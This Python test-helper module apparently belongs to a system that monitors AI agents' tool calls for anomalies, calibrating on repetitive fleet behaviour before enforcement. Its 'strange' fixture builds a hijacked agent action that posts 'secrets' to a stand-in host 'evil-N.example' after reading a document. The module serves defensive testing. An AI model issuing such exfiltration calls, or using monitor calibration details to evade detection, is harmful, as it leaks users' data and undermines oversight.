"""Streams of actions with habits regular enough that models calibrate within a few hundred of them."""

from __future__ import annotations

from collections.abc import Sequence

import msgspec

from monitor.config import Config, parse_config
from monitor.core.pipeline import Outcomes, Pipeline
from monitor.intake.action import Action
from monitor.intake.observation import Observation, Observer

SECRET = bytes(range(32))
START_S = 1_795_000_000.0
PACE_S = 10.0
TOOLS = ("open", "read", "search", "reply")
MIN_ACTIONS = 40
FLEET_MIN_ACTIONS = 200

OBSERVER = Observer(SECRET, store_args=False)


def config(response: str = "", *, detection: str = "", more: str = "") -> Config:
    """A configuration whose models are ready soon; the arguments are lines of TOML for their sections."""
    return parse_config(
        f"[detection]\nmin_actions = {MIN_ACTIONS}\nfleet_min_actions = {FLEET_MIN_ACTIONS}\n{detection}\n"
        # One action in a hundred is flagged, whatever the pace, and what is flagged is stopped, by itself.
        "[response]\nfalse_alerts_per_agent_day = 1000.0\nfalse_kills_per_agent_day = 1000.0\nevidence_window_s = 1.0\n"
        f"{response}\n{more}\n"
    )


ENFORCE = 'mode = "enforce"\n'


def habit(number: int, agents: int = 4, *, version: str = "1") -> Action:
    """The `number`-th action of a fleet in which every agent does the same four things in turn, without any whim."""
    agent, turn = number % agents, number // agents
    return Action(
        id=f"a-{number}",
        ts=START_S + turn * PACE_S + agent * 0.1,
        agent_id=f"agent-{agent}",
        agent_version=version,
        session_id=f"s-{agent}-{turn // 40}",
        tool=TOOLS[turn % len(TOOLS)],
        args={"customer": f"c-{turn % 3}", "note": "thank you"},
        provenance={"customer": "user"},
    )


def strange(
    number: int, agent: str = "agent-0", *, after: int = 0, agents: int = 4, version: str = "1"
) -> Action:
    """Something that no agent ever did, a second after the action `after` of the stream."""
    return Action(
        id=f"strange-{number}",
        ts=START_S + after // agents * PACE_S + 1.0,
        agent_id=agent,
        agent_version=version,
        session_id="s-hijacked",
        tool="http_post",
        args={"host": f"evil-{number}.example", "body": "secrets " * 4000},
        provenance={"host": "tool:read_document", "body": "tool:read"},
        on_behalf_of=("alice@example.com",),
    )


def observed(*actions: Action) -> list[Observation]:
    """The actions as the log has them."""
    return [OBSERVER.observe(action) for action in actions]


def habits(count: int, first: int = 0, agents: int = 4, *, version: str = "1") -> list[Observation]:
    """`count` unremarkable observations from the `first` on."""
    return observed(*(habit(number, agents, version=version) for number in range(first, first + count)))


WARM = 2400
"""So many habits calibrate four agents under `config`."""


def warm(pipeline: Pipeline) -> Outcomes:
    """Calibrate four agents, at the clock `START_S`; a few oddities among their habits give the scores a tail."""
    actions = [habit(number) for number in range(WARM)]
    for number in range(0, WARM, 101):
        actions[number] = msgspec.structs.replace(actions[number], args={"customer": f"odd-{number}"})
    return pipeline.step(observed(*actions), START_S, first_seq=1)


def p_of(outcomes: Sequence[Outcomes]) -> list[str]:
    """The p-values of several outcomes, bit for bit comparable (NaN equals NaN)."""
    return [p.hex() for outcome in outcomes for p in outcome.p]
